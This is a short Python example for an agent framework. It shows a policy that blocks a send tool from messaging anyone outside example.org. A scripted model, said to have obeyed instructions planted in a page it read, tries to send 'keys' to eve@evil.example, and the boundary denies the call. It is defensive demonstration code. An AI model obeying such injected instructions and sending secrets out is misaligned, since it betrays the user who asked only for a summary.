from __future__ import annotations

import json
from dataclasses import dataclass

from handfast import (
    Agent,
    Allow,
    AuditLog,
    Boundary,
    CallRequest,
    Deny,
    MemoryLog,
    RunConfig,
    Runner,
    RunView,
    Verdict,
    function_tool,
)
from handfast.testing import ScriptedModel, assistant_message, function_call


@function_tool
def send(to: str, text: str) -> str:
    """Send a message to somebody."""
    return f"sent to {to}"


@dataclass(frozen=True)
class OnlyColleagues:
    """A policy is a pure function of the call and a view of the run."""

    name: str = "only-colleagues"

    def check(self, call: CallRequest, view: RunView) -> Verdict:
        if call.tool != "send":
            return Allow()
        receiver = str(json.loads(call.arguments_text).get("to"))
        if receiver.endswith("@example.org"):
            return Allow()
        return Deny("messages go to example.org only", self.name)


log = MemoryLog()
boundary = Boundary.strict(audit=AuditLog(log)).with_policies(OnlyColleagues())

# The model has read a page that told it to write to a stranger. It obeys.
model = ScriptedModel(
    [
        [function_call("send", {"to": "eve@evil.example", "text": "keys"}, call_id="call_1")],
        [assistant_message("I could not send it.")],
    ],
)
clerk = Agent(name="Clerk", tools=[send], model=model)
Runner.run_sync(clerk, "Summarise the page.", run_config=RunConfig(boundary=boundary))

for record in log.records:
    print(record.kind, record.data["verdict"], record.data["tool"], "-", record.data["reason"])
